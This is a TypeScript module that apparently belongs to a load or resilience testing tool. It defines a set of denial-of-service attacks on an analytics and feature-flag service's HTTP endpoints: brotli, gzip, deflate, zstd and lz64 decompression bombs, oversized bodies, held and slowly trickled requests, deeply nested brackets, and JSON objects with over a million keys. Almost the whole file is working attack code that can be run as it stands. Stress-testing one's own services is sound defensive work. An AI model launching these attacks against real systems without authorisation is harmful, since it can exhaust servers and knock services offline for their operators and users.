import { brotliCompressSync, constants, deflateSync, gzipSync, zstdCompressSync } from "node:zlib"
import lz from "lz-string"
import type { Attack } from "../attack.types.js"
import { type Attacker, inTurn, once } from "../attacker.js"

const MEBIBYTE = 1024 * 1024
const DECIDE = "/flags?v=2"

/** A list of empty objects, the JSON that takes most memory for its bytes once it is parsed. */
const emptyObjects = (bytes: number): Buffer => Buffer.from(`[${"{},".repeat(Math.floor(bytes / 3) - 1)}{}]`)

const bombText = once(() => emptyObjects(99 * MEBIBYTE))
/** A quick level of brotli still makes less than a kilobyte of it. */
const brotliBomb = once(() => brotliCompressSync(bombText(), { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } }))

/** One bomb of each packing, in turn to every path that unpacks bodies. */
const packedBombs = once(() => {
  const text = bombText()
  const packings = { gzip: gzipSync(text), deflate: deflateSync(text), zstd: zstdCompressSync(text), br: brotliBomb() }
  const paths = ["/batch/", "/i/v0/e/", "/s/", "/decide?v=3", DECIDE, "/engage/"]
  return paths.flatMap((path) => Object.entries(packings).map(([encoding, body]) => ({ path, encoding, body })))
})

const LARGE_BYTES = 19 * MEBIBYTE
const largeText = once(() => Buffer.concat([Buffer.from('{"query":'), emptyObjects(LARGE_BYTES), Buffer.from("}")]))
const MANAGEMENT_PATHS = [
  "/api/environments/1/query/",
  "/api/environments/1/session_recording_playlists/",
  "/api/projects/1/feature_flags/",
  "/api/environments/1/persons/bulk_delete/",
]
const MIXED_PATHS = [DECIDE, "/batch/", "/api/environments/1/query/"]

const mediumText = once(() =>
  Buffer.concat([Buffer.from('{"api_key":"phc_of_nobody","batch":'), emptyObjects(2 * MEBIBYTE), Buffer.from("}")]),
)
const deepText = once(() => Buffer.from("[".repeat(10 * MEBIBYTE)))
const wideText = once(() => {
  const keys = Array.from({ length: 1_200_000 }, (_, index) => `"key${index}":0`)
  return Buffer.from(`{"api_key":"phc_of_nobody","distinct_id":"a",${keys.join(",")}}`)
})
/** Two million characters, the most that the server unpacks of this kind, in one go. */
const lz64Text = once(() => Buffer.from(lz.compressToBase64(`{"a":"${"x".repeat(2_000_000)}"}`)))

const HELD_BODIES = 100
const HELD_BYTES = 19 * MEBIBYTE
const SLOW_BODIES = 500
const TRICKLE_EVERY_MS = 1_000

const headOf = (attacker: Attacker, path: string, length: number): string =>
  `POST ${path} HTTP/1.1\r\nHost: ${attacker.hostname}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`

/** Bodies that cost the server more than the client, none of them with a key. */
export const BODY_ATTACKS: readonly Attack[] = [
  {
    name: "brotli-bombs",
    needs: "nothing",
    what: "Four clients at a time send /flags a few hundred bytes of brotli that unpack to 99 MiB of empty objects.",
    prepare: async () => void brotliBomb(),
    run: (attacker, signal) =>
      attacker.repeat(4, signal, () =>
        attacker.send({ path: DECIDE, headers: { "Content-Encoding": "br" }, body: brotliBomb() }, signal),
      ),
  },
  {
    name: "packed-bombs",
    needs: "nothing",
    what: "The same bomb in gzip, deflate, zstd and brotli, eight at a time, to six paths of capture and decisions.",
    prepare: async () => void packedBombs(),
    run: (attacker, signal) =>
      attacker.repeat(8, signal, (index) => {
        const { path, encoding, body } = inTurn(packedBombs(), index)
        return attacker.send({ path, headers: { "Content-Encoding": encoding }, body }, signal)
      }),
  },
  {
    name: "lz64-bombs",
    needs: "nothing",
    what: "Eight clients send /decide a few kilobytes of lz64 that unpack to two million characters.",
    prepare: async () => void lz64Text(),
    run: (attacker, signal) =>
      attacker.repeat(8, signal, () =>
        attacker.send({ path: "/decide?v=3&compression=lz64", body: lz64Text() }, signal),
      ),
  },
  {
    name: "large-bodies",
    needs: "nothing",
    what: "Four clients send bodies of 19 MiB, lists of empty objects, to management paths.",
    prepare: async () => void largeText(),
    run: (attacker, signal) =>
      attacker.repeat(4, signal, (index) =>
        attacker.send({ path: inTurn(MANAGEMENT_PATHS, index), body: largeText() }, signal),
      ),
  },
  {
    name: "medium-bodies",
    needs: "nothing",
    what: "64 clients send batches of 2 MiB with an unknown project key.",
    prepare: async () => void mediumText(),
    run: (attacker, signal) =>
      attacker.repeat(64, signal, () => attacker.send({ path: "/batch/", body: mediumText() }, signal)),
  },
  {
    name: "held-bodies",
    needs: "nothing",
    what: "100 clients send /batch/ all but the last byte of 19 MiB and wait.",
    prepare: async () => void largeText(),
    run: (attacker, signal) => {
      const body = largeText().subarray(0, HELD_BYTES - 1)
      return attacker.hold(HELD_BODIES, signal, () => {
        const socket = attacker.open(headOf(attacker, "/batch/", HELD_BYTES), signal)
        socket.once("connect", () => socket.write(body))
        socket.resume()
      })
    },
  },
  {
    name: "slow-bodies",
    needs: "nothing",
    what: "500 clients send the body of a capture request one byte a second.",
    run: (attacker, signal) =>
      attacker.hold(SLOW_BODIES, signal, () => {
        const socket = attacker.open(headOf(attacker, "/i/v0/e/", MEBIBYTE), signal).resume()
        const trickle = setInterval(() => socket.write(" "), TRICKLE_EVERY_MS)
        socket.once("close", () => clearInterval(trickle))
      }),
  },
  {
    name: "deep-json",
    needs: "nothing",
    what: "Eight clients send 10 MiB of opening brackets to /flags, /batch/ and a management path.",
    prepare: async () => void deepText(),
    run: (attacker, signal) =>
      attacker.repeat(8, signal, (index) =>
        attacker.send({ path: inTurn(MIXED_PATHS, index), body: deepText() }, signal),
      ),
  },
  {
    name: "wide-json",
    needs: "nothing",
    what: "Four clients send objects of 1.2 million different keys to /flags, /batch/ and a management path.",
    prepare: async () => void wideText(),
    run: (attacker, signal) =>
      attacker.repeat(4, signal, (index) =>
        attacker.send({ path: inTurn(MIXED_PATHS, index), body: wideText() }, signal),
      ),
  },
]
